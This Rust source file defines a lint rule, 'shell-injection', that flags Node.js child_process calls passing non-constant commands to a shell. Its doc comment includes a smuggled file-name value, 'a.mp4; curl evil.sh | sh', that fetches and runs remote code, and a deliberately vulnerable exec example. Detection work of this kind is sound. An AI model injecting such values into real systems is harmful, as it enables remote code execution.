use swc_common::{Span, Spanned};
use swc_ecma_ast::{Expr, ExprOrSpread};

use crate::declare_rule;
use crate::emit::{Label, RawFinding};
use crate::rules::rewrite::{Kind, rewrite};
use crate::rule::{Context, Rule};
use crate::vocab::RuleMeta;
use crate::semantic::resolve::unparen;
use crate::semantic::{Api, CallSite, Hole, Origin, Semantic, Shape, Tri, range};

declare_rule! {
    /// ## What it flags
    ///
    /// A command that reaches a shell and is not a constant:
    ///
    /// - `exec`, `execSync` and promisified `exec` whose command is built from a
    ///   value cplint cannot prove constant;
    /// - `spawn`, `spawnSync`, `execFile`, `execFileSync` (and `cross-spawn`,
    ///   `execa`) with a truthy `shell` option, when the command or any argument is
    ///   not constant — Node joins them into one shell command line;
    /// - a shell named as the program: `spawn("sh", ["-c", script])`,
    ///   `execFile("bash", ["-lc", script])`, `cmd.exe /c`, `powershell -Command`,
    ///   when the script is not constant;
    /// - the shell-string functions of wrapper libraries: `shelljs`'s `exec`,
    ///   `execa`'s `shell`/`execaCommand` with `shell`, `mz/child_process`,
    ///   `child-process-promise`, `platform-command`, `shell-exec`, `exec-sh`,
    ///   `node-cmd`, `exec-limiter`.
    ///
    /// The message names where the dynamic part comes from when cplint can tell: a
    /// parameter of an exported function, the HTTP request (`req.*`),
    /// `process.argv`, `process.env`.
    ///
    /// Not flagged: commands that fold to constants (string literals, `const`
    /// bindings, concatenations and templates of those, `path.join` of constants,
    /// `__dirname`, `os.tmpdir()`, a choice between constants), numbers and
    /// booleans, and dynamic parts wrapped in a recognised quoting function:
    /// `quote` from `shell-quote`, the default export of `shell-escape`,
    /// `any-shell-escape`, `shell-escape-tag` and `shell-args`, `quote`/`quoteAll`/
    /// `escape`/`escapeAll` from `shescape`, and same-file helpers named
    /// `shellEscape`, `shellQuote`, `escapeShellArg`, `escapeShell`,
    /// `shellEscapeArg`, `quoteShellArg`, `quoteShell`, `shellArg` or `quoteArg`
    /// (any case, `_`/`-` ignored).
    ///
    /// ## Why it matters
    ///
    /// A shell reads its command line as a program: `;`, `|`, `$( )`, backticks,
    /// redirects and globs in an interpolated value run as commands of their own.
    /// A file name such as `a.mp4; curl evil.sh | sh` turns a transcode into remote
    /// code execution (CWE-78).
    ///
    /// ## Example
    ///
    /// ```js
    /// const { exec } = require("node:child_process");
    ///
    /// function thumbnail(file, done) {
    ///   exec(`convert ${file} -resize 64x64 thumb.png`, done);
    /// }
    /// module.exports = { thumbnail };
    /// ```
    ///
    /// ## Use instead
    ///
    /// ```js
    /// const { execFile } = require("node:child_process");
    ///
    /// function thumbnail(file, done) {
    ///   execFile("convert", [file, "-resize", "64x64", "thumb.png"], done);
    /// }
    /// module.exports = { thumbnail };
    /// ```
    ///
    /// `execFile` and `spawn` without `shell` pass each argument to the program
    /// unchanged. When shell features are truly needed, quote every dynamic part
    /// with `quote` from `shell-quote`, or pass values as positional parameters:
    /// `spawn("sh", ["-c", 'tar czf "$1" .', "sh", archive])`.
    ///
    /// ## Fix
    ///
    /// When the command is written in the call (a string, a template or a `+`
    /// concatenation) and splits into words without shell syntax, cplint offers the
    /// argument-array call: `exec` → `execFile`, `execSync` → `execFileSync`,
    /// promisified `exec` → promisified `execFile` (declared beside it when needed),
    /// `shell: true` removed from an options object written in the call, and
    /// `spawn("sh", ["-c", script])` → the script's program run directly. The
    /// `require`/`import` is updated (`execFile` added; `exec` replaced when nothing
    /// else uses it). The fix is *unsafe* (`--fix --unsafe-fixes`): an interpolated
    /// value used to be split, globbed and interpreted by the shell and now arrives
    /// as one literal argument — which is the point, but it is a change. Commands
    /// with pipes, redirects, globs, `$VAR`, `&&`, `~`, builtins such as `cd`, or
    /// `NAME=value` prefixes get advice instead of an edit. On Windows, programs that
    /// are `.cmd` scripts (`npm`, `npx`, `yarn`) cannot be run without a shell;
    /// check such calls before applying the fix there.
    ///
    /// ## Known limits
    ///
    /// - Values are followed within one file. A parameter of a function that is
    ///   neither exported nor passed around is folded from its callers in the file;
    ///   anything else that is not constant is reported, even when it is validated
    ///   elsewhere (an allow-list check, a regex test): cplint does not prove
    ///   sanitisers. Suppress such a line with a reason.
    /// - `.replace(...)`-based escaping is not recognised as quoting.
    /// - A `spawn` whose options are unknown (a parameter, a spread of an unknown
    ///   object) is only reported when it names a shell as the program.
    pub struct ShellInjection;
    code: "CP001",
    name: "shell-injection",
    severity: Error,
    category: Security,
    cwe: [78],
    summary: "A non-constant command reaches a shell",
}

impl Rule for ShellInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &Context<'_, '_>, out: &mut Vec<RawFinding>) {
        let sem = ctx.sem;
        for site in &sem.calls {
            let Some(cmd) = site.command else { continue };
            let finding = match site.api {
                a if a.is_shell_string() => check_shell_string(sem, site, cmd, None),
                Api::ExecaCommand => match shell_option(sem, site) {
                    ShellOpt::On(span) => check_shell_string(sem, site, cmd, Some(span)),
                    _ => None,
                },
                a if a.is_file_args() => match shell_option(sem, site) {
                    ShellOpt::On(span) => check_shell_option(sem, site, cmd, span),
                    _ => check_explicit_shell(sem, site, cmd),
                },
                _ => None,
            };
            out.extend(finding);
        }
    }
}

/// The `shell` option of a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShellOpt {
    /// No options, or options without `shell`.
    Absent,
    /// `shell` is falsy.
    Off,
    /// `shell` is truthy, or present with a value cplint cannot fold.
    On(Span),
    /// The options object itself is unknown.
    Unknown,
}

pub fn shell_option<'a>(sem: &Semantic<'a>, site: &CallSite<'a>) -> ShellOpt {
    let Some(opts) = site.options else {
        return if site.spread { ShellOpt::Unknown } else { ShellOpt::Absent };
    };
    let props = sem.props_of(opts);
    if matches!(props, crate::semantic::Props::Unknown) {
        return ShellOpt::Unknown;
    }
    let Some(entry) = props.get("shell") else {
        return ShellOpt::Absent;
    };
    match entry.value.map(|v| sem.prop_truthiness(v)) {
        Some(Tri::False) => ShellOpt::Off,
        _ => ShellOpt::On(entry.span),
    }
}

/// Orders origins from most to least telling, for the message.
fn origin_rank(o: &Origin) -> u8 {
    match o {
        Origin::Request(_) => 0,
        Origin::Argv(_) => 1,
        Origin::Env(_) => 2,
        Origin::Param { exported: true, .. } => 3,
        Origin::Param { .. } => 4,
        Origin::Unknown(_) => 5,
    }
}

pub fn describe_origin(o: &Origin) -> String {
    match o {
        Origin::Param { name, func: Some(f), exported: true } => {
            format!("`{name}`, a parameter of the exported function `{f}`")
        }
        Origin::Param { name, func: Some(f), exported: false } => format!("`{name}`, a parameter of `{f}`"),
        Origin::Param { name, func: None, .. } => format!("`{name}`, a function parameter"),
        Origin::Request(t) => format!("`{t}`, which comes from the HTTP request"),
        Origin::Argv(t) => format!("`{t}`, a command-line argument"),
        Origin::Env(t) => format!("`{t}`, an environment variable"),
        Origin::Unknown(t) => format!("`{t}`, which is not a constant"),
    }
}

fn short_origin(o: &Origin) -> String {
    match o {
        Origin::Param { func: Some(f), exported: true, .. } => format!("parameter of exported `{f}`"),
        Origin::Param { func: Some(f), .. } => format!("parameter of `{f}`"),
        Origin::Param { .. } => "function parameter".into(),
        Origin::Request(_) => "HTTP request input".into(),
        Origin::Argv(_) => "command-line argument".into(),
        Origin::Env(_) => "environment variable".into(),
        Origin::Unknown(_) => "not a constant".into(),
    }
}

fn to_label(h: &Hole) -> Label {
    let (start, end) = range(h.span);
    Label { start, end, text: short_origin(&h.origin) }
}

fn callee_label(site: &CallSite<'_>, text: &str) -> Label {
    let (start, end) = range(site.callee_span);
    Label { start, end, text: text.to_string() }
}

fn finding(site: &CallSite<'_>, primary: Label, holes: Vec<Hole>, message: String, help: &str) -> RawFinding {
    let (start, end) = range(site.span);
    let mut labels: Vec<Label> = Vec::new();
    for h in holes.iter().take(4) {
        let l = to_label(h);
        if !labels.iter().any(|x| x.start == l.start && x.end == l.end)
            && (l.start, l.end) != (primary.start, primary.end)
        {
            labels.push(l);
        }
    }
    RawFinding {
        start,
        end,
        primary,
        message,
        help: Some(help.to_string()),
        note: Some("shell syntax in the value (`;`, `|`, `$( )`, backticks) runs as commands of its own".into()),
        labels,
        fix: None,
    }
}

fn unsafe_holes(shapes: &[Shape]) -> Vec<Hole> {
    let mut holes: Vec<Hole> = shapes.iter().flat_map(|s| s.unsafe_holes().cloned()).collect();
    holes.sort_by_key(|h| origin_rank(&h.origin));
    holes
}

fn check_shell_string<'a>(
    sem: &Semantic<'a>,
    site: &CallSite<'a>,
    cmd: &'a Expr,
    shell: Option<Span>,
) -> Option<RawFinding> {
    let holes = unsafe_holes(&[sem.shape(cmd)]);
    let first = holes.first()?;
    let name = site.display_name();
    let message = match shell {
        Some(_) => format!("{name} with `shell` runs a shell command built from {}", describe_origin(&first.origin)),
        None => format!("{name} runs a shell command built from {}", describe_origin(&first.origin)),
    };
    let help = "pass the program and its arguments separately, e.g. `execFile(file, [arg1, arg2], callback)`, which runs no shell; if shell features are needed, quote each dynamic part with `quote` from `shell-quote`";
    let mut f = finding(site, callee_label(site, "runs through a shell"), holes, message, help);
    let kind = if shell.is_some() { Kind::ShellOption } else { Kind::ShellString };
    f.fix = rewrite(sem, site, kind);
    Some(f)
}

/// The shapes of every argv element (a spread or unknown array is one hole).
fn argv_shapes<'a>(sem: &Semantic<'a>, args: &'a Expr) -> Vec<Shape> {
    match array_elements(sem, args) {
        Some(elems) => elems.iter().map(|e| sem.shape(&e.expr)).collect(),
        None => vec![sem.shape(args)],
    }
}

/// Elements of an array literal, directly or through a `const` binding.
fn array_elements<'a>(sem: &Semantic<'a>, e: &'a Expr) -> Option<Vec<&'a ExprOrSpread>> {
    match unparen(e) {
        Expr::Array(a) => Some(a.elems.iter().flatten().collect()),
        Expr::Ident(i) => match sem.binding_value(i) {
            Some((v, []))
                if sem
                    .bindings
                    .get(i)
                    .is_some_and(|b| b.member_assigns.is_empty() && b.pushes.is_empty() && !b.mutated) =>
            {
                array_elements(sem, v)
            }
            _ => None,
        },
        _ => None,
    }
}

fn check_shell_option<'a>(sem: &Semantic<'a>, site: &CallSite<'a>, cmd: &'a Expr, shell: Span) -> Option<RawFinding> {
    // With an argv array, the arguments are where outside data goes: a caller that
    // picks the program can run anything with or without a shell, so a dynamic
    // program name alone is not reported.
    let mut shapes = Vec::new();
    let command = sem.shape(cmd);
    let program_only = command.parts.len() == 1 && matches!(command.parts[0], crate::semantic::Part::Hole(_));
    if site.args.is_none() || !program_only {
        shapes.push(command);
    }
    if let Some(args) = site.args {
        shapes.extend(argv_shapes(sem, args));
    }
    let holes = unsafe_holes(&shapes);
    let first = holes.first()?;
    let name = site.display_name();
    let message = format!(
        "{name} with `shell` enabled joins its command and arguments into a shell command built from {}",
        describe_origin(&first.origin)
    );
    let (s, e) = range(shell);
    let help = "remove the `shell` option so each argument reaches the program unchanged";
    let mut f = finding(site, callee_label(site, "runs through a shell"), holes, message, help);
    // Options held elsewhere (`const OPTS = { shell: true }`) would split the frame;
    // the label is only shown when the option is written in the call.
    let (cs, ce) = range(site.span);
    if s >= cs && e <= ce {
        f.labels.insert(0, Label { start: s, end: e, text: "enables the shell".into() });
    }
    f.fix = rewrite(sem, site, Kind::ShellOption);
    Some(f)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ShellFamily {
    Posix,
    Cmd,
    PowerShell,
}

fn shell_family(program: &str) -> Option<ShellFamily> {
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    match base {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "busybox" => Some(ShellFamily::Posix),
        "cmd" => Some(ShellFamily::Cmd),
        "powershell" | "pwsh" => Some(ShellFamily::PowerShell),
        _ => None,
    }
}

fn is_script_flag(family: ShellFamily, flag: &str) -> bool {
    match family {
        ShellFamily::Posix => {
            flag.len() >= 2
                && flag.starts_with('-')
                && !flag.starts_with("--")
                && flag[1..].chars().all(|c| c.is_ascii_alphabetic())
                && flag.contains('c')
        }
        ShellFamily::Cmd => matches!(flag.to_ascii_lowercase().as_str(), "/c" | "/k"),
        ShellFamily::PowerShell => matches!(flag.to_ascii_lowercase().as_str(), "-command" | "-c" | "/command" | "/c"),
    }
}

fn check_explicit_shell<'a>(sem: &Semantic<'a>, site: &CallSite<'a>, cmd: &'a Expr) -> Option<RawFinding> {
    let program = sem.shape(cmd).as_literal()?;
    let family = shell_family(program.trim())?;
    let elems = array_elements(sem, site.args?)?;
    let mut flag_at = None;
    for (i, el) in elems.iter().enumerate() {
        if el.spread.is_some() {
            return None;
        }
        let Some(text) = sem.shape(&el.expr).as_literal() else {
            continue;
        };
        if is_script_flag(family, &text) {
            flag_at = Some((i, text));
            break;
        }
    }
    let (at, flag) = flag_at?;
    // POSIX shells read one script; later elements are `$0`, `$1`, ... (safe).
    // cmd and PowerShell join everything after the flag into the script.
    let script: Vec<&ExprOrSpread> = match family {
        ShellFamily::Posix => elems.get(at + 1).copied().into_iter().collect(),
        _ => elems[at + 1..].to_vec(),
    };
    let mut shapes = Vec::new();
    for el in &script {
        shapes.push(sem.shape(&el.expr));
    }
    let holes = unsafe_holes(&shapes);
    let first = holes.first()?;
    let prog_name = program.rsplit(['/', '\\']).next().unwrap_or(&program).to_string();
    let message = format!(
        "{} runs `{prog_name} {flag}` with a script built from {}",
        site.display_name(),
        describe_origin(&first.origin)
    );
    let help = match family {
        ShellFamily::Posix => {
            "run the program directly with an argument array; if a shell is unavoidable, keep the script constant and pass values as positional parameters: `[\"-c\", 'cmd \"$1\"', \"sh\", value]`"
        }
        _ => "run the program directly with an argument array instead of through a shell",
    };
    let (s, e) = range(script.first().map_or(site.callee_span, |el| el.expr.span()));
    let mut f = finding(site, callee_label(site, "starts a shell"), holes, message, help);
    if !f.labels.iter().any(|l| l.start >= s && l.end <= e) {
        f.labels.insert(0, Label { start: s, end: e, text: "shell script".into() });
    }
    if family == ShellFamily::Posix && flag == "-c" && elems.len() == at + 2 {
        f.fix = crate::rules::rewrite::rewrite_explicit_shell(sem, site, &script[0].expr);
    }
    Some(f)
}
